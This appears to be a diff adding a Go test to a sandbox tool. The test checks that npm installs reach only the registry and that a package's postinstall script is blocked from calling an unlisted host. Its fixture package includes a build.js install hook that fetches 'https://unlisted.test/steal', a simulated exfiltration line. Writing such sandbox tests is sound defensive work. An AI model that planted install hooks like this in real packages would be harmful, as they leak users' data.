@@ -115,3 +115,48 @@ func fourRows(t *testing.T, got sbxtest.Result) {
 		says(t, strings.ToLower(got.Stderr), strings.ToLower(w.Host))
 	}
 }
+
+// Packages may hold what would be protected in the project itself, and an install can
+// be cut in two: the download with the registry, the scripts with nothing.
+func TestBypass77b_NamesInModulesAndTwoPhases(t *testing.T) {
+	lab := sbxtest.NewLab(t)
+	lab.Serve("unlisted.test", http.HandlerFunc(leak))
+	registry := lab.ServeNPM(t, "npm.test", sbxtest.Package{
+		Name: "odd", Version: "1.0.0",
+		Scripts: map[string]string{"postinstall": "node build.js"},
+		Files: map[string]string{
+			"build.js":            "require('fs').writeFileSync('built', 'yes'); require('https').get('https://unlisted.test/steal', r => console.log('status ' + r.statusCode)).on('error', e => console.log('error ' + e.code))",
+			".idea/workspace.xml": "<x/>", ".env": "A=b", ".vscode/settings.json": "{}", ".github/workflows/x.yml": "on: push",
+		},
+	})
+	everyone(t, func(t *testing.T, who sbxtest.User) {
+		inHome(t, lab, who, ".npmrc", "registry=https://npm.test/\n")
+		lab.Write(who, "package.json", `{"name": "root", "version": "1.0.0", "dependencies": {"odd": "1.0.0"}}`)
+		before := watching(lab)
+		got := shell(t, lab, who, "npm install --ignore-scripts --no-audit --no-fund && cd node_modules/odd && cat .idea/workspace.xml .env .vscode/settings.json .github/workflows/x.yml && ls built 2>&1; true", "--profile", "js-install")
+		succeeded(t, got)
+		says(t, got.Stdout, "<x/>A=b{}on: push", "No such file")
+		onlyTo(t, before, registry)
+		if rows := got.Denials(t); len(rows) != 0 {
+			t.Errorf("the download was denied something: %+v", rows)
+		}
+
+		dials := len(lab.Dials())
+		got = shell(t, lab, who, "npm rebuild --no-update-notifier --foreground-scripts && cat node_modules/odd/built")
+		succeeded(t, got)
+		says(t, got.Stdout, "status 520", "yes")
+		if d := onlyDenial(t, got); d.Host != "unlisted.test" || d.Path != "/steal" {
+			t.Errorf("%+v", d)
+		}
+		if n := len(lab.Dials()) - dials; n != 0 {
+			t.Errorf("the scripts made %d connections", n)
+		}
+		// A global install goes to the private home, and away with it.
+		got = shell(t, lab, who, "npm install -g --prefix ~/global --ignore-scripts --no-audit odd && ls ~/global/lib/node_modules", "--profile", "js-install")
+		succeeded(t, got)
+		says(t, got.Stdout, "odd")
+		if _, err := os.Stat(filepath.Join(lab.Home(who), "global")); !os.IsNotExist(err) {
+			t.Errorf("a global install left something in the caller's home: %v", err)
+		}
+	})
+}
